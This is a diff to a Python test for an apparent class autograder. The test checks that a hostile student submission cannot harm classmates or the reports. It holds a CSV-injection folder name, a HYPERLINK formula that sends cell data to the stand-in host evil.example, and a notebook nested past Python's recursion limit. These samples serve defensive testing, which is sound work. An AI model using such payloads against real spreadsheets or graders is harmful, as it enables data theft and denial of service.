@@ -12,6 +12,7 @@ five promises:
 from __future__ import annotations
 
 import ast
+import csv
 import fcntl
 import hashlib
 import json
@@ -362,17 +363,31 @@ for victim in ("@@CLASS@@/student/qwen2_lora/train.py", "../student/qwen2_lora/t
 """
 
 
+# the attacker's folder name is a spreadsheet formula (OWASP CSV injection) and it hands in a notebook
+# nested past Python's recursion limit, to blind the class's similarity report
+ATTACKER_NAME = '=HYPERLINK("http:\\\\evil.example?"&A1,"attacker")'
+
+
 def test_a_hostile_student_cannot_touch_its_classmates(tmp_path, host):
     klass, out = tmp_path / "class", tmp_path / "reports"
     make_submission(klass / "student")                       # full marks
-    attacker = make_submission(klass / "attacker", base="stub")
+    attacker = make_submission(klass / ATTACKER_NAME, base="stub")
     _inject(attacker / "qwen2_lora" / "train.py",
             ATTACKER.replace("@@CLASS@@", str(klass)).replace("@@OUT@@", str(out)), "top")
+    (attacker / "qwen2_lora" / "deep.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
     before = digest(klass / "student")
 
     results = {r.student: r for r in grade_class(klass, out, assignments=("qwen2_lora",))}
 
-    assert results["attacker"].score == 0
+    assert results[ATTACKER_NAME].score == 0
+    # no formula in the gradebook or the similarity report, and the report is there, naming the notebook
+    for name in ("grades.csv", "similarity.csv"):
+        with (out / name).open(encoding="utf-8", newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], (name, cells)
+        if name == "grades.csv":
+            assert "'" + ATTACKER_NAME in cells
+    assert "deep.ipynb" in (out / "similarity.html").read_text(encoding="utf-8")
     assert results["student"].score == 100, summary({c.name: c for a in results["student"].assignments
                                                      for c in a.checks})
     assert json.loads((out / "student" / "results.json").read_text())["score"] == 100
